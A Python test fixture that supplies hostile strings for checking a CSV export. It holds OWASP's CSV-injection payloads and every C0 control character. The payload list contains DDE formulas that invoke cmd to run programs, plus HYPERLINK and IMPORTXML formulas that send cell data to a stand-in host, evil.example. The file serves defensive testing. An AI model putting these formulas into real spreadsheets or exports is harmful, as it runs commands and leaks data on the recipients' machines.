"""Hostile text for the export tests: OWASP's CSV-injection payloads and every C0 control
character, as residents (or a pasted Word document) could send them."""

from __future__ import annotations

from consult.cells import FORMULA_STARTS

# OWASP's CSV injection examples (https://owasp.org/www-community/attacks/CSV_Injection)
# and their usual variants: each of = + - @ tab CR as the first character, DDE, HYPERLINK.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "=1+1",
    "+Smith",
    "-Jones",
    "@Jones",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
CONTROLS = [chr(code) for code in range(32)]


def hostile_texts(*, nul: bool = True) -> list[str]:
    """Every payload, and every C0 control inside, before and after some words
    (`nul=False` leaves out NUL, which PostgreSQL cannot store and so cannot export)."""
    controls = [c for c in CONTROLS if nul or c != "\x00"]
    return (
        PAYLOADS
        + [f"pasted{c}from Word" for c in controls]
        + [f"{c}=1+1 leading" for c in controls]
        + [f"trailing{c}" for c in controls]
    )


def formula_cells(values: list[object]) -> list[object]:
    """The values a spreadsheet would run as a formula."""
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
